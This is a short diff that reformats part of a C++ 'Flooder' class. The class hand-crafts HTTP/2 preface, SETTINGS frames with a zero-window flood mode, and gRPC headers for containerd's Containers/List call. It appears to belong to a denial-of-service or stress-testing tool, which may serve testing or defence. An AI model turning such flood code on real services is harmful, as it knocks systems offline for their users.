@@ -74,8 +74,7 @@ class Flooder {
     if (flood == Flood::kZeroWindow) settings = std::string("\0\4\0\0\0\0", 6);
     Send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(4, 0, 0, settings));
     first_ = absl::StrCat(
-        "\x83\x86",
-        Remembered(4, "", "/containerd.services.containers.v1.Containers/List"),
+        "\x83\x86", Remembered(4, "", "/containerd.services.containers.v1.Containers/List"),
         Remembered(1, "", "localhost"), Remembered(31, "", "application/grpc"),
         Remembered(0, "te", "trailers"), Remembered(0, "containerd-namespace", ns));
   }
@@ -110,8 +109,7 @@ class Flooder {
 
   bool Send(const std::string& bytes) {
     for (size_t sent = 0; sent < bytes.size();) {
-      const ssize_t n =
-          send(fd_.get(), bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
+      const ssize_t n = send(fd_.get(), bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
       if (n < 0 && errno != EAGAIN) open_ = false;
       if (n < 0) return false;
       sent += static_cast<size_t>(n);
